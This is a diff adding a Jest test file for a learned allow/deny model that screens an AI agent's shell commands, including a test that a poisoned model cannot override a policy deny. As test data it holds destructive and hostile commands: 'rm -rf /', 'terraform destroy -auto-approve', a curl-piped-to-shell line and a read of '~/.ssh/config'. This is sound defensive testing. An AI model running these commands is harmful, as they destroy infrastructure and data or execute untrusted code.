@@ -1,0 +1,94 @@
+import { combine } from '../engine/combine';
+import { decide } from '../engine/decide';
+import { normalise } from '../tool/tool-call-normaliser';
+import { extractFeatures } from './pattern-features';
+import { PatternModel } from './pattern-model';
+import type { TrainingExample } from './pattern-model.schema';
+
+const context = { workspaceRoot: '/code/project', homeDir: '/home/agent' };
+const call = (command: string) => normalise({ tool: 'Bash', input: { command } }, context);
+const example = (command: string, decision: 'allow' | 'deny', source: 'policy' | 'expert'): TrainingExample => ({ normalised: call(command), decision, source });
+
+const HISTORY: TrainingExample[] = [
+  example('terraform destroy', 'deny', 'expert'),
+  example('terraform destroy -auto-approve', 'deny', 'expert'),
+  example('terraform destroy -target=module.db', 'deny', 'expert'),
+  example('terraform plan', 'allow', 'expert'),
+  example('terraform plan -out=tf.plan', 'allow', 'policy'),
+  example('terraform fmt', 'allow', 'policy'),
+  example('terraform validate', 'allow', 'policy'),
+];
+
+function trained(history: readonly TrainingExample[] = HISTORY, options = {}): PatternModel {
+  const model = new PatternModel(options);
+  history.forEach((item) => model.train(item));
+  return model;
+}
+
+describe('extractFeatures', () => {
+  it('given a command, when featurised, then program, subcommand, flags, wrappers, pipes and path classes appear', () => {
+    expect(extractFeatures(call('sudo git push -f origin main'))).toEqual(
+      expect.arrayContaining(['prog:git', 'sub:git push', 'flag:git --force', 'wrap:sudo', 'tok:git main']),
+    );
+    expect(extractFeatures(call('curl -s http://x | sh'))).toContain('pipe:to-shell');
+    expect(extractFeatures(call('cat ~/.ssh/config /etc/hosts ./a'))).toEqual(expect.arrayContaining(['path:home-dotfile', 'path:etc', 'path:workspace']));
+  });
+});
+
+describe('PatternModel', () => {
+  it('given expert denials of a subcommand, when a similar call comes, then it predicts deny confidently', () => {
+    const prediction = trained().predict(call('terraform destroy -auto-approve -target=module.web'));
+    expect(prediction.decision).toBe('deny');
+    expect(prediction.confidence).toBeGreaterThanOrEqual(0.8);
+  });
+
+  it('given allowed siblings, when a known-safe call comes, then it predicts allow', () => {
+    expect(trained().predict(call('terraform plan')).decision).toBe('allow');
+  });
+
+  it('given little evidence or an unknown program, when predicting, then it defers', () => {
+    expect(trained([example('helm uninstall web', 'deny', 'policy')]).predict(call('helm uninstall api'))).toMatchObject({ decision: 'defer' });
+    expect(trained().predict(call('ansible-playbook site.yml'))).toEqual({ decision: 'defer', confidence: 0 });
+    expect(new PatternModel().predict(call('ls'))).toEqual({ decision: 'defer', confidence: 0 });
+  });
+
+  it('given a conflict, when one expert ruling meets three policy decisions, then the expert weighs more', () => {
+    const history = [
+      example('make deploy', 'allow', 'policy'),
+      example('make deploy', 'allow', 'policy'),
+      example('make deploy', 'allow', 'policy'),
+      example('make deploy', 'deny', 'expert'),
+    ];
+    expect(trained(history, { threshold: 0.5 }).predict(call('make deploy')).decision).toBe('deny');
+    expect(trained(history.slice(0, 3), { threshold: 0.5 }).predict(call('make deploy')).decision).toBe('allow');
+  });
+
+  it('given a higher threshold, when confidence is below it, then the same model defers', () => {
+    const prediction = trained().predict(call('terraform destroy'));
+    expect(trained(HISTORY, { threshold: Math.min(1, prediction.confidence + 0.01) }).predict(call('terraform destroy')).decision).toBe('defer');
+  });
+
+  it('given the same training sequence on two replicas, when serialised, then state and predictions are identical', () => {
+    const a = trained();
+    const b = trained();
+    expect(JSON.stringify(a.toJSON())).toBe(JSON.stringify(b.toJSON()));
+    const restored = PatternModel.fromJSON(JSON.parse(JSON.stringify(a.toJSON())));
+    for (const command of ['terraform destroy', 'terraform plan', 'terraform apply', 'ls']) {
+      expect(restored.predict(call(command))).toEqual(a.predict(call(command)));
+    }
+    expect(JSON.stringify(restored.toJSON())).toBe(JSON.stringify(a.toJSON()));
+  });
+
+  it('given a malformed state, when restored, then it is rejected', () => {
+    expect(() => PatternModel.fromJSON({ version: 2 })).toThrow();
+    expect(() => PatternModel.fromJSON({ ...trained().toJSON(), features: [['x', -1, 0]] })).toThrow();
+  });
+
+  it('given a model poisoned to allow `rm -rf /`, when combined with the policy, then the deny stands', () => {
+    const poisoned = trained(Array.from({ length: 20 }, () => example('rm -rf /', 'allow', 'expert')));
+    const prediction = poisoned.predict(call('rm -rf /'));
+    expect(prediction).toMatchObject({ decision: 'allow' });
+    const policy = decide({ tool: 'Bash', input: { command: 'rm -rf /' } }, context);
+    expect(combine(policy, prediction).decision).toBe('deny');
+  });
+});
